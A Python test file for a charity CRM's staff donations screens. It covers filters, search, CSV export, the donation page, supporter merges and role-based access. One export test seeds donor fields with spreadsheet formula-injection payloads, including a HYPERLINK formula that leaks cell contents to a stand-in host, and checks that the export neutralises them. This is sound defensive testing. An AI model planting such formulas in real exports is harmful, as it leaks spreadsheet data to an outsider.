"""The staff donations screens: list, filters, search, CSV export, a gift's page, profile panel, merge, access."""

import csv
import io
import re
from datetime import UTC, datetime
from html import unescape

import pytest
from werkzeug.datastructures import MultiDict

from crm.audit import AuditEvent
from crm.extensions import db
from crm.payments.forms.staff import DonationSearchForm
from crm.payments.models import Donation, Receipt, RecurringGift, StripeEvent, receipt_donations
from crm.payments.services.backoffice import DonationFilter, export_donations_csv, list_donations
from crm.supporters.models import Supporter
from tests.blns import SAMPLE, STRINGS
from tests.helpers import csrf_token, post_form
from tests.payments.helpers import merge_data

LIST = "/staff/donations/"
EXPORT = "/staff/donations/export.csv"
ROW_LINK = re.compile(r'<a href="/staff/donations/(\d+)">')


def add_receipt(donation, serial, status="issued"):
    year, number = serial.split("-")
    receipt = Receipt(
        serial=serial,
        year=int(year),
        number=int(number),
        status=status,
        supporter_id=donation.supporter_id,
        amount_cents=donation.amount_cents,
        eligible_cents=donation.amount_cents,
        currency=donation.currency,
        received_on=donation.created_at.date(),
        donor_name=donation.donor_name or "Donor",
        pdf=b"%PDF-",
        pdf_sha256="0" * 64,
    )
    db.session.add(receipt)
    db.session.flush()
    db.session.execute(receipt_donations.insert().values(receipt_id=receipt.id, donation_id=donation.id))
    return receipt


@pytest.fixture
def gifts(app, make_gift):
    """Gifts of every kind the filters tell apart; returns their ids by name."""
    with app.app_context():
        made = {
            "elise": make_gift(
                "elise@example.org",
                first_name="Élise",
                last_name="Côté",
                designation="spring-appeal",
                source="newsletter",
                stripe_payment_intent_id="pi_elise",
                stripe_customer_id="cus_elise",
                stripe_charge_id="ch_elise",
            ),
            "marc": make_gift(
                "marc@example.org",
                amount_cents=2500,
                first_name="Marc",
                last_name="Tremblay",
                kind="monthly",
                stripe_invoice_id="in_marc",
                created_at=datetime(2026, 1, 10, tzinfo=UTC),
            ),
            "failed": make_gift(
                "zoe@example.org", first_name="Zoë", last_name="Ng", status="failed", stripe_payment_intent_id="pi_zoe"
            ),
            "refunded": make_gift(
                "ana@example.org",
                first_name="Ana",
                last_name="Silva",
                status="refunded",
                refunded_cents=5000,
                created_at=datetime(2025, 12, 31, 23, 0, tzinfo=UTC),
            ),
            "cheque": make_gift(
                "paul@example.org", first_name="Paul", last_name="Roy", method="cheque", offline_reference="1234"
            ),
        }
        add_receipt(made["cheque"], "2026-000007")
        db.session.commit()
        return {name: donation.id for name, donation in made.items()}


def listed(client, query=""):
    response = client.get(LIST + query, headers={"Accept-Language": "en"})
    assert response.status_code == 200, response.status_code
    return [int(gift_id) for gift_id in ROW_LINK.findall(response.get_data(as_text=True))]


def test_list_filters_and_search_find_the_right_gifts(gifts, make_client):
    client, _ = make_client("marketing")  # reading is for every staff role
    assert set(listed(client)) == set(gifts.values())
    assert listed(client, "?status=failed") == [gifts["failed"]]
    assert listed(client, "?kind=monthly") == [gifts["marc"]]
    assert listed(client, "?designation=spring-appeal") == [gifts["elise"]]
    assert listed(client, "?source=newsletter") == [gifts["elise"]]
    assert set(listed(client, "?date_from=2026-01-01&date_to=2026-01-31")) == {gifts["marc"]}
    assert listed(client, "?date_to=2025-12-31") == [gifts["refunded"]]
    # Search: name (accents folded), email, every kind of Stripe id, receipt serial, cheque donors too.
    assert listed(client, "?q=elise") == [gifts["elise"]]
    assert listed(client, "?q=C%C3%B4t%C3%A9") == [gifts["elise"]]
    assert listed(client, "?q=MARC%40example.org") == [gifts["marc"]]
    assert listed(client, "?q=pi_zoe") == [gifts["failed"]]
    assert listed(client, "?q=in_marc") == [gifts["marc"]]
    assert listed(client, "?q=cus_elise") == [gifts["elise"]]
    assert listed(client, "?q=ch_elise") == [gifts["elise"]]
    assert listed(client, "?q=2026-000007") == [gifts["cheque"]]
    assert listed(client, "?q=nobody") == []
    assert listed(client, "?q=elise&status=failed") == []


def test_list_pages_and_shows_amounts(app, make_client, make_gift):
    with app.app_context():
        for i in range(55):
            make_gift(f"p{i}@example.org", amount_cents=1000 + i, first_name=f"P{i}")
        db.session.commit()
    client, _ = make_client()
    first = client.get(LIST, headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "Showing 1 to 50 of 55 donations" in first
    assert 'rel="next"' in first
    second = client.get(LIST + "?page=2", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "Showing 51 to 55 of 55 donations" in second
    assert "$10.00" in second  # the oldest (same time, lowest id) come last
    french = client.get(LIST + "?page=2", headers={"Accept-Language": "fr"}).get_data(as_text=True)
    assert "10,00" in french


def test_bad_filters_give_400_with_a_message_and_never_a_500(gifts, make_client):
    client, _ = make_client()
    response = client.get(LIST + "?date_from=yesterday&status=bogus", headers={"Accept-Language": "en"})
    assert response.status_code == 400
    assert "Please correct the fields marked below." in response.get_data(as_text=True)
    for value in SAMPLE:
        for name in FILTERS:
            response = client.get(LIST, query_string={name: value})
            assert response.status_code in (200, 400), f"{response.status_code} for {name}={value!r}"


FILTERS = ("q", "source", "date_from", "status", "kind", "designation")


def test_every_naughty_string_in_every_filter_is_read_searched_and_exported(app, gifts):
    with app.test_request_context(LIST):
        for value in STRINGS:
            for name in FILTERS:
                DonationSearchForm(formdata=MultiDict({name: value})).validate()
                list_donations(DonationFilter.from_args({name: value}), 1)
            assert "".join(export_donations_csv(DonationFilter.from_args({"q": value})))


def read_csv(response):
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_export_is_filtered_formula_safe_and_audited(app, gifts, make_client, make_gift):
    with app.app_context():
        evil = make_gift(
            "evil@example.org",
            first_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            last_name="+SUM(1,2)",
            designation="-2+3",
            source="@SUM(A1:A9)",
        )
        db.session.commit()
        evil_id = evil.id
    client, user = make_client()
    rows = read_csv(client.get(EXPORT))
    assert len(rows) == len(gifts) + 1
    row = next(row for row in rows if row["id"] == str(evil_id))
    assert row["first_name"] == """'=HYPERLINK("http://evil.example/?leak="&A1,"Click")"""
    assert (row["last_name"], row["designation"], row["source"]) == ("'+SUM(1,2)", "'-2+3", "'@SUM(A1:A9)")
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())

    elise = next(row for row in rows if row["id"] == str(gifts["elise"]))
    assert (elise["amount"], elise["currency"], elise["first_name"]) == ("50.00", "CAD", "Élise")
    assert elise["stripe_payment_intent_id"] == "pi_elise"
    cheque = next(row for row in rows if row["id"] == str(gifts["cheque"]))
    assert (cheque["method"], cheque["offline_reference"], cheque["receipts"]) == ("cheque", "1234", "2026-000007")

    filtered = read_csv(client.get(EXPORT + "?status=failed&q=zoe"))
    assert [row["id"] for row in filtered] == [str(gifts["failed"])]
    with app.app_context():
        audits = db.session.scalars(db.select(AuditEvent).filter_by(action="export", target_type="donation")).all()
        assert [(a.actor_id, a.changes) for a in audits] == [
            (user.id, {"filter": {}}),
            (user.id, {"filter": {"q": "zoe", "status": "failed"}}),
        ]


def test_donation_page_shows_stripe_ids_events_and_receipts(app, gifts, make_client):
    with app.app_context():
        db.session.add_all(
            [
                StripeEvent(
                    event_id="evt_1",
                    type="payment_intent.succeeded",
                    object_id="pi_elise",
                    payment_intent_id="pi_elise",
                ),
                StripeEvent(event_id="evt_2", type="charge.dispute.created", object_id="ch_elise"),
                StripeEvent(
                    event_id="evt_other",
                    type="payment_intent.succeeded",
                    object_id="pi_zoe",
                    payment_intent_id="pi_zoe",
                ),
            ]
        )
        add_receipt(db.session.get(Donation, gifts["elise"]), "2026-000001", status="cancelled")
        db.session.commit()
    client, _ = make_client()
    response = client.get(f"/staff/donations/{gifts['elise']}", headers={"Accept-Language": "en"})
    assert response.status_code == 200
    page = unescape(response.get_data(as_text=True))
    for value in ("pi_elise", "cus_elise", "ch_elise", "evt_1", "evt_2", "charge.dispute.created", "2026-000001"):
        assert value in page
    assert "evt_other" not in page
    assert "$50.00" in page and "Élise Côté" in page and "spring-appeal" in page
    assert "Refund this gift" in page and 'name="idempotency_key"' in page
    french = client.get(f"/staff/donations/{gifts['elise']}", headers={"Accept-Language": "fr"})
    assert "50,00" in french.get_data(as_text=True)
    assert client.get("/staff/donations/99999999").status_code == 404


def test_supporter_profile_shows_gifts_plans_and_receipts(app, gifts, make_client):
    with app.app_context():
        donation = db.session.get(Donation, gifts["cheque"])
        plan = RecurringGift(supporter_id=donation.supporter_id, amount_cents=2000, currency="cad", status="active")
        db.session.add(plan)
        db.session.commit()
        supporter_id = donation.supporter_id
    client, _ = make_client()
    page = client.get(f"/staff/supporters/{supporter_id}", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert 'id="gifts-heading"' in page
    assert f'href="/staff/donations/{gifts["cheque"]}"' in page
    assert "$20.00 a month" in page and "Active" in page
    assert "2026-000007" in page
    other = client.get(f"/staff/supporters/{supporter_id}", headers={"Accept-Language": "fr"}).get_data(as_text=True)
    assert "50,00" in other


def test_merging_supporters_moves_gifts_plans_and_receipts_to_the_survivor(app, gifts, make_client):
    with app.app_context():
        absorbed = db.session.get(Donation, gifts["cheque"]).supporter_id
        survivor = db.session.get(Donation, gifts["elise"]).supporter_id
        db.session.add(RecurringGift(supporter_id=absorbed, amount_cents=2000, currency="cad", status="active"))
        db.session.commit()
    client, _ = make_client()
    response = post_form(client, f"/staff/supporters/merge/{survivor}/{absorbed}", merge_data(survivor="a"))
    assert response.status_code == 302
    with app.app_context():
        assert db.session.get(Supporter, absorbed).merged_into_id == survivor
        for model in (Donation, RecurringGift, Receipt):
            assert (
                db.session.scalar(db.select(db.func.count()).select_from(model).filter_by(supporter_id=absorbed)) == 0
            )
        assert db.session.get(Donation, gifts["cheque"]).supporter_id == survivor
        assert db.session.scalar(db.select(Receipt.supporter_id).filter_by(serial="2026-000007")) == survivor
    page = client.get(f"/staff/supporters/{survivor}").get_data(as_text=True)
    assert f'href="/staff/donations/{gifts["cheque"]}"' in page


@pytest.mark.parametrize("role", ["anonymous", "fundraiser", "marketing", "staff", "admin"])
def test_access_rules(app, gifts, role, make_client):
    if role == "anonymous":
        client = app.test_client()
    else:
        client, _ = make_client(role)
    token = csrf_token(client, "/account/login" if role == "anonymous" else "/")
    gift = gifts["elise"]
    reads = [LIST, EXPORT, f"/staff/donations/{gift}"]
    writes = ["/staff/donations/offline"]
    posts = [
        f"/staff/donations/{gift}/refund",
        "/staff/donations/offline",
        f"/staff/donations/{gifts['cheque']}/receipts/1/cancel",
    ]
    for url in reads + writes:
        response = client.get(url, buffered=True)
        response.close()  # a streamed download keeps its request context until closed
        if role == "anonymous":
            assert response.status_code == 302 and response.headers["Location"].startswith("/account/login?next=")
        elif role == "fundraiser" or (role == "marketing" and url in writes):
            assert response.status_code == 403, url
        else:
            assert response.status_code == 200, url
    for url in posts:
        response = client.post(url, data={"csrf_token": token})
        if role == "anonymous":
            assert response.status_code == 302 and "/account/login" in response.headers["Location"]
        elif role in ("fundraiser", "marketing"):
            assert response.status_code == 403, url
        else:
            assert response.status_code in (400, 404), url  # let in; the empty form is refused
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count()).select_from(Donation)) == len(gifts)


def test_an_imported_gifts_status_and_method_are_named_in_both_languages(app, make_client, make_gift):
    with app.app_context():
        gift_id = make_gift("old@example.org", status="cancelled", method="paypal", imported=True).id
        db.session.commit()
    client, _ = make_client("staff")
    for page in (client.get("/staff/donations/"), client.get(f"/staff/donations/{gift_id}")):
        text = page.get_data(as_text=True)
        assert "Cancelled" in text and "PayPal" in text and ">cancelled<" not in text and ">paypal<" not in text
    client.get("/language/fr")
    text = client.get(f"/staff/donations/{gift_id}").get_data(as_text=True)
    assert "Annulé" in text and "PayPal" in text
